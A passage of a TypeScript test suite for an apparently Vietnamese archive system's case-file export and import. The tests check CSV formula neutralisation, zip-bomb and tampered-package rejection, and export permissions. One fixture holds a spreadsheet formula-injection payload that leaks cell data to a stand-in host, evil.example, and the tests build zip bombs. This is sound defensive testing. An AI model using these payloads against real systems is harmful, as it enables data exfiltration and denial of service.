    const twice = await upload('stc.vanthu', pkg);
    expect(twice.status).toBe(409);
    expect(twice.body.code).toBe('case_file.code_taken');
  });

  it("neutralises spreadsheet formulas in metadata.csv (a leading ' before = + - @ tab CR) and keeps metadata.xml as typed", async () => {
    const description = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")';
    const cf = await create('snv.cv.tcbc', {
      notation: '32.TCBC',
      title: '@SUM(1+1) hồ sơ công thức',
      retentionYears: 10,
      startDate: '2025-01-02',
      description,
    });
    ok(
      await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('+1 cộng với -1') }),
      201,
    );
    const files = await contents((await binary((await as('snv.luutru')).agent.get(`/api/case-files/${cf.id}/export`))).body as Buffer);
    const csv = files['metadata.csv'].toString();
    // Every cell, quoted or not: none may start with a formula character.
    const cells = csv
      .replace(/^\ufeff/, '')
      .split('\r\n')
      .filter(Boolean)
      .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g)!.map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"')));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining([`'${description}`, "'@SUM(1+1) hồ sơ công thức", "'+1 cộng với -1"]));
    const xml = files['metadata.xml'].toString();
    expect(xml).toContain('<Title>@SUM(1+1) hồ sơ công thức</Title>');
    expect(xml).toContain('<Subject>+1 cộng với -1</Subject>');
  });

  it('stops a zip bomb that lies about its sizes while inflating it (413, memory bounded), and refuses too many entries or a size that disagrees', async () => {
    const before = await t.database.db.$count(auditEvents, eq(auditEvents.action, 'case_file.import'));
    // 400 MiB of zeros in a package of about 400 KB, declared as 1,000 bytes and listed in the manifest.
    const bomb = await deflatedZeros(400);
    expect(bomb.length).toBeLessThan(500 * 1024);
    const manifest = Buffer.from(`${'0'.repeat(64)}  files/001/01_bomb.pdf\n`);
    const pkg = handMadeZip([
      { name: 'manifest-sha256.txt', data: manifest, method: 0, declaredSize: manifest.length },
      { name: 'files/001/01_bomb.pdf', data: bomb, method: 8, declaredSize: 1000 },
    ]);
    const rss = process.memoryUsage().rss;
    const started = Date.now();
    const res = await upload('stc.vanthu', pkg);
    const grown = process.memoryUsage().rss - rss;
    expect(res.status).toBe(413);
    expect(res.body).toMatchObject({
      code: 'case_file.package_too_large',
      title: expect.stringContaining('MB'),
      detail: expect.stringContaining('01_bomb.pdf'),
    });
    expect(grown).toBeLessThan(100 * 1024 * 1024);
    expect(Date.now() - started).toBeLessThan(5000);

    // A size that disagrees with the data, within the limits: not a package of ours.
    const small = zlib.deflateRawSync(Buffer.alloc(1000, 'a'));
    const lying = await upload('stc.vanthu', handMadeZip([{ name: 'files/001/01_a.pdf', data: small, method: 8, declaredSize: 10 }]));
    expect(lying.status).toBe(422);
    expect(lying.body).toMatchObject({ code: 'case_file.package_invalid', detail: expect.stringContaining('declares 10') });

    const many = new JSZip();
    for (let i = 0; i <= 5000; i++) many.file(`files/${i}.txt`, '');
    const crowded = await upload('stc.vanthu', await many.generateAsync({ type: 'nodebuffer' }));
    expect(crowded.status).toBe(413);
    expect(crowded.body.code).toBe('case_file.package_too_many_entries');
    expect(await t.database.db.$count(auditEvents, eq(auditEvents.action, 'case_file.import'))).toBe(before);
  });

  it('refuses a corrupted package, naming the file whose checksum fails, and stores nothing', async () => {
    const cf = await create('snv.cv.tcbc', { notation: '31.TCBC', title: 'Hồ sơ hỏng', retentionYears: 10, startDate: '2025-01-02' });
    ok(
      await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('Văn bản sẽ bị sửa') }),
      201,
    );
    // Exported by the archivist, who may open the document (the unit's specialist may not: no package for him).
    expect((await (await as('snv.cv.tcbc')).get(`/api/case-files/${cf.id}/export`)).body.code).toBe('case_file.export_restricted');
    const pkg = (await binary((await as('snv.luutru')).agent.get(`/api/case-files/${cf.id}/export`))).body as Buffer;
    const zip = await JSZip.loadAsync(pkg);
    const target = Object.keys(zip.files).find((n) => n.startsWith('files/') && !zip.files[n].dir)!;
    const bytes = await zip.file(target)!.async('nodebuffer');
    bytes[bytes.length - 10] ^= 0xff;
    zip.file(target, bytes);
    const before = await t.database.db.$count(auditEvents, eq(auditEvents.action, 'case_file.import'));
    const res = await upload('stc.vanthu', await zip.generateAsync({ type: 'nodebuffer' }));
    expect(res.status).toBe(422);
    expect(res.body).toMatchObject({ code: 'case_file.checksum_mismatch', errors: [{ path: target }] });
    expect(res.body.detail).toContain(target);

    const unlisted = await JSZip.loadAsync(pkg);
    unlisted.file('extra.txt', 'không có trong danh sách');
    const res2 = await upload('stc.vanthu', await unlisted.generateAsync({ type: 'nodebuffer' }));
    expect(res2.body).toMatchObject({ code: 'case_file.package_unlisted' });
    expect((await upload('stc.vanthu', Buffer.from('not a zip'))).body.code).toBe('case_file.package_invalid');
    // A consistent package (checksums recomputed) whose metadata is wrong: ordinals with a gap.
    const renumbered = await JSZip.loadAsync(pkg);
    const xml = (await renumbered.file('metadata.xml')!.async('string')).replace(
      '<DocOrdinal>1</DocOrdinal>',
      '<DocOrdinal>3</DocOrdinal>',
    );
    renumbered.file('metadata.xml', xml);
    const manifest = (await renumbered.file('manifest-sha256.txt')!.async('string')).replace(
      /^[0-9a-f]{64}(?= {2}metadata\.xml$)/m,
      crypto.createHash('sha256').update(xml).digest('hex'),
    );
    renumbered.file('manifest-sha256.txt', manifest);
    const gap = await upload('stc.vanthu', await renumbered.generateAsync({ type: 'nodebuffer' }));
    expect(gap.status).toBe(422);
    expect(gap.body.detail).toContain('DocOrdinal');
    const bomb = await JSZip.loadAsync(pkg);
    bomb.file('files/001/02_zeros.pdf', Buffer.alloc(5 * 1024 * 1024));
    const bombed = await upload('stc.vanthu', await bomb.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' }));
    expect(bombed.status).toBe(413);
    expect(bombed.body.code).toBe('case_file.package_too_large');
    expect(await t.database.db.$count(auditEvents, eq(auditEvents.action, 'case_file.import'))).toBe(before);
  });
});
